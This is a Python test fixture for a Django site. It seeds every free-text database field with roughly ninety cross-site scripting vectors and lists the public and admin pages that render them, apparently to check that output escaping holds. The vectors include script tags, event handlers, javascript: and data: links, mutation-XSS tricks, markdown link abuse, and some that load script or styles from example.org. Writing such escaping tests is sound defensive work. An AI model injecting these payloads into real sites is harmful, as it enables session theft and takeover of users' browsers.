"""A site whose every text is hostile: run as a script, it fills the database that VAR_DIR names.

Each vector tries one known way of making a browser run code or ask a stranger; all of them set
`window.hit`. They are stored past the forms, as a careless import would, so that rendering alone
has to hold.
"""

import json
import os
import sys
from collections.abc import Iterator
from io import StringIO
from typing import Any

HIT = "window.hit=1"
VECTORS = [
    # Scripts, in the ways that filters by pattern have missed.
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script >{HIT}</script >",
    f"<script/x>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script\n>{HIT}</script>",
    f"<<script>{HIT}//<</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    "<script src=//example.org/x.js></script>",
    "<script src=data:text/javascript,window.hit=1></script>",
    f"<script type=module>{HIT}</script>",
    f"<noscript><p title='</noscript><script>{HIT}</script>'>",
    # Handlers of events.
    f"<img src=x onerror={HIT}>",
    f'<img src="x" onerror="{HIT}">',
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x onerror\n={HIT}>",
    f"<IMG SRC=x OnErRoR={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}//",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set onbegin={HIT} attributeName=x>",
    f"<body onload={HIT}>",
    f"<body onpageshow={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>",
    f"<textarea autofocus onfocus={HIT}></textarea>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<iframe onload={HIT}></iframe>",
    f"<object data=x onerror={HIT}></object>",
    f"<link rel=stylesheet href=x onerror={HIT}>",
    f"<style onload={HIT}></style>",
    f"<div style=animation-name:x onanimationstart={HIT}>x</div>",
    f"<p tabindex=1 autofocus onfocus={HIT}>x</p>",
    # Out of an attribute.
    f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    f"' autofocus onfocus='{HIT}' x='",
    f'"><img src=x onerror={HIT}>',
    f"'><svg onload={HIT}>",
    f"` onfocus={HIT} autofocus `",
    # Documents and addresses.
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<iframe src=data:text/html,x></iframe>",
    f"<embed src=javascript:{HIT}>",
    f"<object data=javascript:{HIT}></object>",
    f"<form action=javascript:{HIT}><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:window.hit=1>",
    "<meta http-equiv=refresh content=0;url=//example.org>",
    "<base href=//example.org/>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='java\tscript:{HIT}'>x</a>",
    f"<a href=&#106;avascript:{HIT}>x</a>",
    "<style>@import '//example.org/x.css';</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></table></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x "
    f"onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={HIT}>'>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\u003cscript\u003e{HIT}\u003c/script\u003e",
    "{{ 7|add:7 }}{% debug %}{% load x %}",
    # Markdown.
    f"[x](javascript:{HIT})",
    f"[x](JaVaScRiPt:{HIT})",
    f"[x](java&#09;script:{HIT})",
    f"[x](&#x6A;avascript:{HIT})",
    f"[x](<javascript:{HIT}>)",
    f"[x][y]\n\n[y]: javascript:{HIT}",
    f"[x](vbscript:{HIT})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    f'[x](https://example.org "\\" onfocus={HIT} autofocus x=\\"")',
    f"![x](x) onerror={HIT}",
    f'![x" onerror="{HIT}](x)',
    f"<javascript:{HIT}>",
    f"<https://example.org/\"onfocus='{HIT}'autofocus>",
    f"`<img src=x onerror={HIT}>`",
    f"```\n<script>{HIT}</script>\n```",
    f"    <script>{HIT}</script>",
    f'## <img src=x onerror={HIT}> "id',
    f"| <script>{HIT}</script> |\n| --- |\n| <img src=x onerror={HIT}> |",
    f"[^law]<script>{HIT}</script>[^<img src=x onerror={HIT}>]",
    f"practice:<script>{HIT}</script> [x](practice:<script>)",
]
A_FIELD = 10  # vectors in one field


def chunks() -> list[str]:
    return ["\n\n".join(VECTORS[at : at + A_FIELD]) for at in range(0, len(VECTORS), A_FIELD)]


def fill() -> dict[str, Any]:
    """Make a little of everything, poison it, and say which pages show it."""
    from django.core.management import call_command
    from django.test import Client

    from tests.factories import make_user

    call_command("collectstatic", verbosity=0, interactive=False)
    entries = [entry for number in range(len(chunks())) for entry in _entries(number)]
    for model in _models():
        _poison(model)
    call_command("build_index", stdout=StringIO())
    editor = Client()
    editor.force_login(make_user(username="editor", is_staff=True, is_superuser=True))
    return {
        "pages": [entry.get_absolute_url()[3:] for entry in entries],
        "admin": list(_admin_pages()),
        "session": editor.cookies["sessionid"].value,
    }


def _entries(number: int) -> Iterator[Any]:
    from tests import factories as make

    law = {"law": "https://example.org/law"}
    steps = [("s1", "", "x"), ("m1", "municipality", "x")]
    topic = f"topic-{number}"
    section = make.make_section(
        text="x", sources=law, steps=steps, topics=[topic], audiences=[topic]
    )
    for day in ("2026-01-01", "2026-02-01"):
        section.changes.create(day=day, text_bg="x")
    make.make_word(f"x{number}")
    practice = make.make_practice(topics=[topic], audiences=[topic], actors=[f"actor-{number}"])
    practice.sources.create(url="https://example.org/", position=1)
    place = make.make_place(topics=[topic], languages=["bg"], phones=["038 000 000"])
    place.schedules.create(description_bg="x", periods=[])
    publication = make.make_publication(topics=[topic], languages=["bg"])
    finding = make.make_finding(topics=[topic])
    yield from (section, practice, finding, publication, place, place.organization)


def _models() -> list[Any]:
    from django.apps import apps

    return [
        model
        for name in ("topics", "kb", "directory")
        for model in apps.get_app_config(name).get_models()
        if not model.__name__.startswith("Historical")
    ]


def _poison(model: Any) -> None:
    """Every free text of every row: what has choices or a rule of its own is no free text."""
    from django.core.validators import MaxLengthValidator

    texts = [
        field.attname
        for field in model._meta.concrete_fields
        if field.get_internal_type() in ("CharField", "TextField")
        and not field.choices
        and not field.unique
        and all(isinstance(one, MaxLengthValidator) for one in field.validators)
    ]
    ours = chunks()
    for row, pk in enumerate(model._default_manager.values_list("pk", flat=True)):
        values = {name: ours[(row + at) % len(ours)] for at, name in enumerate(texts)}
        model._default_manager.filter(pk=pk).update(**values)


def _admin_pages() -> Iterator[str]:
    from django.contrib import admin
    from django.urls import reverse

    for model in _models():
        if model not in admin.site._registry:
            continue
        name = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        yield reverse(f"{name}_changelist")
        for pk in model._default_manager.values_list("pk", flat=True)[:2]:
            yield reverse(f"{name}_change", args=[pk])
            yield reverse(f"{name}_history", args=[pk])


if __name__ == "__main__":
    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")
    django.setup()
    json.dump(fill(), sys.stdout)
